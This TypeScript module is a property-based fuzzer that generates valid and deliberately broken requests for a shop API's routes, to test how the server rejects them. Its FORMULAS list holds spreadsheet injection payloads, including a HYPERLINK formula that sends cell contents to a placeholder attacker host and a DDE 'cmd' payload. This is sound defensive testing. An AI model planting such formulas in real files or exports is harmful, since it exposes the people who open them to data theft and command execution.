import fc from 'fast-check';

/**
 * Requests for every route of the shop's OpenAPI document — which the server builds from the
 * very zod schemas of `@poshak/shared-api/schemas` its routes validate with — both as the schema
 * allows them and broken in one chosen way, to check how the server refuses them.
 */

/** The JSON Schema dialect `fastify-type-provider-zod` publishes (OpenAPI 3.0 flavour). */
export interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  minimum?: number;
  maximum?: number;
  exclusiveMinimum?: boolean | number;
  minLength?: number;
  maxLength?: number;
  minItems?: number;
  maxItems?: number;
  pattern?: string;
  format?: string;
  nullable?: boolean;
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  default?: unknown;
}

interface OpenApiParameter {
  in: 'query' | 'path' | 'header';
  name: string;
  required?: boolean;
  schema: JsonSchema;
}

interface OpenApiOperation {
  parameters?: OpenApiParameter[];
  requestBody?: { required?: boolean; content: Record<string, { schema: JsonSchema }> };
}

export interface OpenApiDocument {
  paths: Record<string, Record<string, OpenApiOperation>>;
}

export interface RouteShape {
  method: string;
  /** Fastify's form, e.g. `/api/coupons/:id_coupon`. */
  url: string;
  pathParams: OpenApiParameter[];
  query: OpenApiParameter[];
  body?: { contentType: string; schema: JsonSchema; required: boolean };
}

const FORM = 'multipart/form-data';

/**
 * A form's fields as a browser can send them: each a text (or a file), never an object. A field
 * whose schema also admits an object is one the server reads from a text of its own (Quantity's
 * "+10" or "-2", a change to the units held): it keeps its other alternatives, without their
 * lower bound, since a sign makes a change of any number valid.
 */
function formSchema(schema: JsonSchema): JsonSchema {
  const scalar = (field: JsonSchema): JsonSchema => {
    const alternatives = field.anyOf ?? field.oneOf;
    if (!alternatives) return field;
    const scalars = alternatives.filter((alternative) => typeOf(alternative) !== 'object');
    if (scalars.length === alternatives.length) return field;
    const kept = scalars.map((alternative) => ({ ...alternative, minimum: undefined }));
    return kept.length === 1 && kept[0] ? kept[0] : { ...field, anyOf: kept, oneOf: undefined };
  };
  if (!schema.properties) return schema;
  return {
    ...schema,
    properties: Object.fromEntries(
      Object.entries(schema.properties).map(([name, field]) => [name, scalar(field)]),
    ),
  };
}

export function routeShapes(doc: OpenApiDocument): RouteShape[] {
  const shapes: RouteShape[] = [];
  for (const [openApiPath, operations] of Object.entries(doc.paths)) {
    for (const [method, op] of Object.entries(operations)) {
      const params = op.parameters ?? [];
      const [contentType, media] = Object.entries(op.requestBody?.content ?? {})[0] ?? [];
      shapes.push({
        method: method.toUpperCase(),
        url: openApiPath.replace(/\{(\w+)\}/g, ':$1'),
        pathParams: params.filter((p) => p.in === 'path'),
        query: params.filter((p) => p.in === 'query'),
        ...(contentType && media
          ? {
              body: {
                contentType,
                schema: contentType === FORM ? formSchema(media.schema) : media.schema,
                required: !!op.requestBody?.required,
              },
            }
          : {}),
      });
    }
  }
  return shapes;
}

const typeOf = (s: JsonSchema): string | undefined => {
  if (Array.isArray(s.type)) return s.type.find((t) => t !== 'null');
  if (s.type) return s.type;
  const alternative = s.anyOf?.[0] ?? s.oneOf?.[0];
  return alternative ? typeOf(alternative) : undefined;
};

const isIdName = (name: string) => /(^id$|^id_|_id$|^invoice_no$)/.test(name);

/** Ids that exist in the fuzzed shop, so valid requests reach real rows, not only 404s. */
const KNOWN_IDS = [1, 2, 3, 4, 5, 6, 7, 8];

/**
 * Texts matching a pattern, one arbitrary per pattern: building one tokenises fast-check's
 * default string slices, a tenth of the fuzzing process's CPU when built per case.
 */
const matchers = new Map<string, fc.Arbitrary<string>>();
function matching(pattern: RegExp): fc.Arbitrary<string> {
  const key = `${pattern.flags}/${pattern.source}`;
  let arbitrary = matchers.get(key);
  if (!arbitrary) {
    arbitrary = fc.stringMatching(pattern);
    matchers.set(key, arbitrary);
  }
  return arbitrary;
}

function integerArb(s: JsonSchema, name: string): fc.Arbitrary<number> {
  const exclusive = s.exclusiveMinimum === true;
  const min = Math.max(
    (s.minimum ?? -1_000_000) + (exclusive ? 1 : 0),
    typeof s.exclusiveMinimum === 'number' ? s.exclusiveMinimum + 1 : -Infinity,
    Number.MIN_SAFE_INTEGER,
  );
  const max = Math.min(s.maximum ?? 1_000_000, 2_147_483_647);
  const any = fc.integer({ min, max });
  if (isIdName(name)) {
    const known = KNOWN_IDS.filter((id) => id >= min && id <= max);
    return known.length ? fc.oneof(fc.constantFrom(...known), any) : any;
  }
  return fc.oneof(fc.integer({ min, max: Math.min(max, Math.max(min, 0) + 20) }), any);
}

function stringArb(s: JsonSchema): fc.Arbitrary<string> {
  if (s.format === 'email') {
    return fc
      .tuple(matching(/^[a-z][a-z0-9]{0,12}$/), fc.constantFrom('example.com', 'poshak.test'))
      .map(([user, host]) => `${user}@${host}`);
  }
  if (s.format === 'date') {
    return fc
      .date({ min: new Date('2000-01-01'), max: new Date('2099-12-31'), noInvalidDate: true })
      .map((d) => d.toISOString().slice(0, 10));
  }
  const minLength = s.minLength ?? 0;
  const maxLength = Math.min(s.maxLength ?? 80, 200);
  if (s.pattern) {
    return matching(new RegExp(s.pattern, 'u')).filter(
      (v) => v.trim().length >= minLength && v.length <= maxLength,
    );
  }
  return fc
    .string({ unit: 'grapheme', minLength, maxLength })
    .filter((v) => v.trim().length >= minLength);
}

/**
 * Rules a JSON Schema cannot carry (zod refinements), given back from the shared schemas by
 * field name, so "valid" values really are valid.
 */
export type Refinements = Record<string, fc.Arbitrary<unknown>>;
let refinements: Refinements = {};
export function useRefinements(r: Refinements): void {
  refinements = r;
}

/** Values the schema accepts. */
export function validValue(s: JsonSchema, name = ''): fc.Arbitrary<unknown> {
  const refined = refinements[name];
  if (refined) return refined;
  if (s.enum) return fc.constantFrom(...s.enum);
  switch (typeOf(s)) {
    case 'integer':
      return integerArb(s, name);
    case 'number':
      return fc.double({
        min: (s.minimum ?? 0) + (s.exclusiveMinimum === true ? 0.01 : 0),
        max: s.maximum ?? 1_000_000,
        noNaN: true,
        noDefaultInfinity: true,
      });
    case 'string':
      return stringArb(s);
    case 'boolean':
      return fc.boolean();
    case 'array':
      return fc.array(validValue(s.items ?? {}, name), {
        minLength: s.minItems ?? 0,
        maxLength: Math.min(s.maxItems ?? 5, 5),
      });
    case 'object': {
      const properties = s.properties ?? {};
      const model = Object.fromEntries(
        Object.entries(properties)
          // A file part is not a JSON value; the multipart builder adds it.
          .filter(([, p]) => Object.keys(p).length > 0)
          .map(([key, p]) => [key, validValue(p, key)]),
      );
      return fc.record(model, {
        requiredKeys: (s.required ?? []).filter((key) => key in model),
      });
    }
    default:
      return fc.jsonValue({ maxDepth: 2 });
  }
}

/** A leaf a mutation can target: its path in the value and its schema. */
export interface Slot {
  /** `form`: a multipart field, text like the query string. */
  where: 'query' | 'path' | 'body' | 'form';
  path: (string | number)[];
  schema: JsonSchema;
  required: boolean;
}

/** Every field of a generated value, found by walking the value along its schema. */
export function slotsOf(
  where: Slot['where'],
  value: unknown,
  s: JsonSchema,
  path: (string | number)[] = [],
  required = true,
): Slot[] {
  const type = typeOf(s);
  if (type === 'object' && value && typeof value === 'object' && !Array.isArray(value)) {
    const own = path.length ? [{ where, path, schema: s, required }] : [];
    return own.concat(
      Object.entries(s.properties ?? {}).flatMap(([key, p]) =>
        key in value
          ? slotsOf(
              where,
              (value as Record<string, unknown>)[key],
              p,
              [...path, key],
              (s.required ?? []).includes(key),
            )
          : [],
      ),
    );
  }
  if (type === 'array' && Array.isArray(value)) {
    const own = path.length ? [{ where, path, schema: s, required }] : [];
    return own.concat(
      value.flatMap((v, i) => slotsOf(where, v, s.items ?? {}, [...path, i], true)),
    );
  }
  return [{ where, path, schema: s, required }];
}

export type MutationKind =
  | 'none'
  | 'missing'
  | 'wrong-type'
  | 'huge-string'
  | 'negative'
  | 'fractional'
  | 'huge-number'
  | 'boundary-int'
  | 'control-char'
  | 'unknown-id'
  | 'null'
  | 'extra-field'
  | 'formula'
  | 'hidden-char'
  | 'bengali-forms'
  | 'boolean-number';

/** The integers where counters, sequences and 32-bit columns end: 2³¹−1, 2³¹, −1 and 0. */
export const BOUNDARY_INTEGERS = [2_147_483_647, 2_147_483_648, -1, 0] as const;

/** NUL, BEL, ESC, DEL and C1 controls (NEL, CSI): no text field of the shop holds them. */
export const CONTROL_CHARACTERS = [
  '\u0000',
  '\u0007',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
] as const;

/**
 * Text a spreadsheet would evaluate: accepted as text (a shopper may be called anything), and
 * made harmless where it leaves the shop (the CSV exports).
 */
export const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"c")',
  "+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '-1+1',
  '=1+1',
] as const;

/**
 * Characters that hide or reorder text: the bidirectional controls (U+202A–202E, U+2066–2069),
 * zero-width ones (U+200B, U+2060, U+FEFF) and, in JSON bodies, a lone surrogate.
 */
export const HIDDEN_CHARACTERS = [
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200b',
  '\u2060',
  '\ufeff',
] as const;
const LONE_SURROGATES = ['\ud800', '\udfff'] as const;

/** য় and ড় as one code point and as letter + nukta: one word in two Unicode spellings. */
export const BENGALI_FORMS = [
  'না\u09dfক',
  'না\u09af\u09bcক',
  'বা\u09dcি',
  'বা\u09a1\u09bcি',
] as const;

/** A field whose text is taken exactly as typed (a password: never shown, never normalised). */
const isSecret = (slot: Slot) => /password/i.test(lastName(slot));

/** What a broken value must be refused for (when `mustRefuse`), and the word naming it. */
export interface Breakage {
  kind: MutationKind;
  slot?: Slot;
  value?: unknown;
  mustRefuse: boolean;
}

/** The word a refusal of this slot must contain: its field name, or its index in a list body. */
const lastName = (slot: Slot) =>
  String([...slot.path].reverse().find((p) => typeof p === 'string') ?? slot.path.join('.'));

/** A control character inside ordinary letters, where trimming cannot take it away. */
const withControlCharacter = fc
  .tuple(matching(/^[a-z]{1,4}$/), fc.constantFrom(...CONTROL_CHARACTERS), matching(/^[a-z]{1,4}$/))
  .map(([before, control, after]) => `${before}${control}${after}`);

/** Every way to break the slot that applies to its type, one arbitrary per way. */
export function breakageOptions(slot: Slot): fc.Arbitrary<Breakage>[] {
  const type = typeOf(slot.schema);
  const s = slot.schema;
  const options: fc.Arbitrary<Breakage>[] = [];
  const add = (kind: MutationKind, value: fc.Arbitrary<unknown>, mustRefuse: boolean) =>
    options.push(value.map((v) => ({ kind, slot, value: v, mustRefuse })));
  const isText = slot.where !== 'body';

  if (slot.required && slot.where !== 'path' && s.default === undefined) {
    options.push(fc.constant({ kind: 'missing', slot, mustRefuse: true }));
  }
  if (type === 'integer' || type === 'number') {
    add(
      'wrong-type',
      fc.constantFrom('abc', 'NaN', '1,5', '0x1G', ...(isText ? [] : [{ a: 1 }, [1, 2], 'twelve'])),
      true,
    );
    const floor = (s.minimum ?? -Infinity) + (s.exclusiveMinimum === true ? 1e-9 : 0);
    if (floor > -1) add('negative', fc.integer({ min: -1_000_000, max: -1 }), true);
    // Tried on every number: where the schema allows a fraction the server may accept it, but a
    // refusal must still name the field (a database type error naming nothing would not).
    add('fractional', fc.constantFrom(0.5, 1.5, 2.25, 99.9), type === 'integer');
    add('huge-number', fc.constantFrom(2 ** 31, 2 ** 53, 1e308, -1e308), true);
    const min = (s.minimum ?? -Infinity) + (s.exclusiveMinimum === true ? 1e-9 : 0);
    const max = s.maximum ?? Infinity;
    for (const value of BOUNDARY_INTEGERS) {
      // Refused when the schema's range leaves it out; a value inside must not break anything.
      add('boundary-int', fc.constant(value), value < min || value > max);
    }
    if (isIdName(lastName(slot)))
      add('unknown-id', fc.integer({ min: 1_000_000, max: 2_000_000_000 }), false);
  }
  // A string anywhere, and any value that travels as text (path, query, form).
  if (type === 'string' || (isText && (type === 'integer' || type === 'number'))) {
    add('control-char', withControlCharacter, true);
  }
  if (type === 'integer' || type === 'number') {
    // JSON's true and false are no numbers (they were read as 1 and 0); in a query they are text.
    if (!isText) add('boolean-number', fc.boolean(), true);
  }
  if (type === 'string') {
    // Refused wherever text enters, passwords aside; a lone surrogate only in JSON, since a URL
    // cannot carry one.
    const hidden = isText ? HIDDEN_CHARACTERS : [...HIDDEN_CHARACTERS, ...LONE_SURROGATES];
    add(
      'hidden-char',
      fc
        .tuple(matching(/^[a-z]{1,4}$/), fc.constantFrom(...hidden), matching(/^[a-z]{1,4}$/))
        .map(([before, hiddenChar, after]) => `${before}${hiddenChar}${after}`),
      !isSecret(slot),
    );
    // Ordinary text to the shop: kept (names may be anything), or refused by a field's own rule.
    add('formula', fc.constantFrom(...FORMULAS), false);
    add('bengali-forms', fc.constantFrom(...BENGALI_FORMS), false);
  }
  if (type === 'string') {
    if (!isText) add('wrong-type', fc.constantFrom(12345, { a: 'b' }, ['x'], true), true);
    const limit = s.maxLength ?? (s.enum || s.pattern || s.format ? 0 : undefined);
    // Query strings stay under Node's 16 KB header limit; bodies go to 200 KB. A text without
    // a limit may be accepted, but must not break anything either. A field allowed more than that
    // (a settlement file's text) is past the ceiling: the body's own size limit answers first.
    const ceiling = isText ? 4_000 : 200_000;
    if (limit === undefined || limit < ceiling) {
      add(
        'huge-string',
        fc
          .integer({ min: (limit ?? 1_000) + 1, max: ceiling })
          .map((n) => 'ж'.repeat(Math.max(n, (limit ?? 0) + 1))),
        limit !== undefined,
      );
    }
  }
  if (type !== 'string') {
    // A huge text where a number, a list or an object belongs: refused, cheaply.
    add(
      'huge-string',
      fc.integer({ min: 1_000, max: isText ? 4_000 : 200_000 }).map((n) => '9'.repeat(n)),
      true,
    );
  }
  if (type === 'array' && !isText) {
    add('wrong-type', fc.constantFrom('lines', 42, { 0: 'a' }), true);
    if (s.maxItems !== undefined)
      add('huge-string', fc.constant(Array.from({ length: s.maxItems + 1 }, () => ({}))), true);
  }
  if (type === 'object' && !isText) add('wrong-type', fc.constantFrom('x', 7, [1]), true);
  if (!isText && !s.nullable && slot.required) add('null', fc.constant(null), true);
  return options;
}

/** One way, chosen at random, to break the slot (or none when no way applies to it). */
export function breakages(slot: Slot): fc.Arbitrary<Breakage> {
  const options = breakageOptions(slot);
  return options.length ? fc.oneof(...options) : fc.constant({ kind: 'none', mustRefuse: false });
}

export { lastName };
